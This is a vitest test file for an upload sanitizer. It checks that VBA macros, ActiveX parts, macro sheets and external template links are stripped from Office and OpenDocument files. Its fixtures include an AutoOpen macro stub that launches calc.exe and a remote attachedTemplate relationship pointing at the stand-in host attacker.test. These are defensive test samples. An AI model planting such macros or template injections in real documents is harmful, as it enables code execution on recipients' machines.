import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { useUploads, expectBlocked, outputOf } from './sanitize-test-support.js';

const { upload, expectOnlyInputLeft } = useUploads();

const WORD_MAIN =
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCM_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function wordPackage(
  mainType: string,
  extra: Record<string, Uint8Array> = {},
  rels = '',
): Uint8Array {
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8"?>' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
    `<Override PartName="/word/document.xml" ContentType="${mainType}"/>` +
    '</Types>';
  return zipSync({
    '[Content_Types].xml': strToU8(contentTypes),
    '_rels/.rels': strToU8(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>` +
        '</Relationships>',
    ),
    'word/document.xml': strToU8('<w:document><w:body><w:p/></w:body></w:document>'),
    'word/_rels/document.xml.rels': strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
    ),
    ...extra,
  });
}

const VBA_PROJECT = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.from('Attribute VB_Name = "AutoOpen" Shell("calc.exe")'),
]);

describe('sanitizeUpload: Office documents', () => {
  const macroRel = `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`;

  it('removes the macros of a docm and makes it a docx', async () => {
    const docm = wordPackage(DOCM_MAIN, { 'word/vbaProject.bin': VBA_PROJECT }, macroRel);

    const { result } = await upload(docm, { fileName: 'letter.docm' });

    expect(result.outcome).toBe('sanitized');
    if (result.outcome !== 'sanitized') return;
    expect(result.contentType).toBe(
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    );
    expect(result.changes.join('\n')).toMatch(/removed macros \(word\/vbaProject\.bin\)/);
    const parts = unzipSync(await outputOf(result));
    expect(Object.keys(parts)).not.toContain('word/vbaProject.bin');
    const types = Buffer.from(parts['[Content_Types].xml'] ?? []).toString();
    expect(types).toContain(WORD_MAIN);
    expect(types).not.toMatch(/macroEnabled|vbaProject/);
    expect(Buffer.from(parts['word/_rels/document.xml.rels'] ?? []).toString()).not.toContain(
      'vbaProject',
    );
  });

  it('passes a docm untouched when macro documents are allowed', async () => {
    const docm = wordPackage(DOCM_MAIN, { 'word/vbaProject.bin': VBA_PROJECT }, macroRel);
    const { result } = await upload(docm, {
      fileName: 'letter.docm',
      policy: { blockMacroDocuments: false },
    });
    expect(result.outcome !== 'blocked' && result.contentType).toBe(
      'application/vnd.ms-word.document.macroEnabled.12',
    );
  });

  it('blocks an Excel workbook with 4.0 macro sheets, which cannot be cleaned', async () => {
    const xlsm = zipSync({
      '[Content_Types].xml': strToU8(
        '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      ),
      'xl/workbook.xml': strToU8('<workbook/>'),
      'xl/macrosheets/sheet1.xml': strToU8('<xm:macrosheet/>'),
    });
    expectBlocked((await upload(xlsm, { fileName: 'book.xlsx' })).result, /macro sheets/);
    await expectOnlyInputLeft();
  });

  it('removes an external template relationship from a docx', async () => {
    const settingsRels =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://attacker.test/t.dotm" TargetMode="External"/>` +
      '</Relationships>';
    const docx = wordPackage(WORD_MAIN, {
      'word/settings.xml': strToU8(
        '<w:settings xmlns:r="r"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>',
      ),
      'word/_rels/settings.xml.rels': strToU8(settingsRels),
    });

    const { result } = await upload(docx, { fileName: 'form.docx' });

    expect(result.outcome).toBe('sanitized');
    if (result.outcome !== 'sanitized') return;
    expect(result.changes.join('\n')).toMatch(/attachedTemplate.*attacker\.test/);
    const parts = unzipSync(await outputOf(result));
    const rels = Buffer.from(parts['word/_rels/settings.xml.rels'] ?? []).toString();
    expect(rels).not.toContain('attacker.test');
    const settings = Buffer.from(parts['word/settings.xml'] ?? []).toString();
    expect(settings).not.toContain('attachedTemplate');
    expect(settings).toContain('w:zoom');
  });

  it('removes ActiveX parts from a docx', async () => {
    const docx = wordPackage(
      WORD_MAIN,
      { 'word/activeX/activeX1.xml': strToU8('<ax:ocx/>') },
      `<Relationship Id="rId5" Type="${REL}/control" Target="activeX/activeX1.xml"/>`,
    );
    const { result } = await upload(docx, { fileName: 'form.docx' });
    const parts = unzipSync(await outputOf(result));
    expect(Object.keys(parts).some((name) => name.includes('activeX'))).toBe(false);
    expect(Buffer.from(parts['word/_rels/document.xml.rels'] ?? []).toString()).not.toContain(
      'activeX',
    );
  });

  it('removes the macros of an xlsm named .xlsx and makes it an xlsx', async () => {
    const xlsm = zipSync({
      '[Content_Types].xml': strToU8(
        '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      ),
      'xl/workbook.xml': strToU8('<workbook/>'),
      'xl/_rels/workbook.xml.rels': strToU8(
        '<Relationships><Relationship Id="rId4" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
      ),
      'xl/vbaProject.bin': VBA_PROJECT,
    });
    const { result } = await upload(xlsm, { fileName: 'budget.xlsx' });
    expect(result.outcome !== 'blocked' && result.contentType).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(Object.keys(unzipSync(await outputOf(result)))).not.toContain('xl/vbaProject.bin');
  });

  it('accepts SVG pictures inside an Office document but not in a plain zip', async () => {
    const icon = strToU8('<svg xmlns="http://www.w3.org/2000/svg"/>');
    const docx = wordPackage(WORD_MAIN, { 'word/media/image1.svg': icon });
    expect((await upload(docx, { fileName: 'a.docx' })).result.outcome).toBe('clean');
    const zip = zipSync({ 'image1.svg': icon });
    expectBlocked((await upload(zip, { fileName: 'a.zip' })).result, /image1\.svg/);
  });

  it('blocks an OpenDocument text with macros and passes one without', async () => {
    const odt = (extra: Record<string, Uint8Array>) =>
      zipSync({
        mimetype: strToU8('application/vnd.oasis.opendocument.text'),
        'content.xml': strToU8('<office:document-content/>'),
        ...extra,
      });
    const withMacros = odt({ 'Basic/Standard/Module1.xml': strToU8('<script:module/>') });
    expectBlocked((await upload(withMacros, { fileName: 'a.odt' })).result, /macros/);
    const { result } = await upload(odt({}), { fileName: 'a.odt' });
    expect(result.outcome !== 'blocked' && result.contentType).toBe(
      'application/vnd.oasis.opendocument.text',
    );
  });

  it('passes a clean docx as it is', async () => {
    const { path, result } = await upload(wordPackage(WORD_MAIN), { fileName: 'a.docx' });
    expect(result).toEqual({
      outcome: 'clean',
      path,
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      changes: [],
    });
  });
});
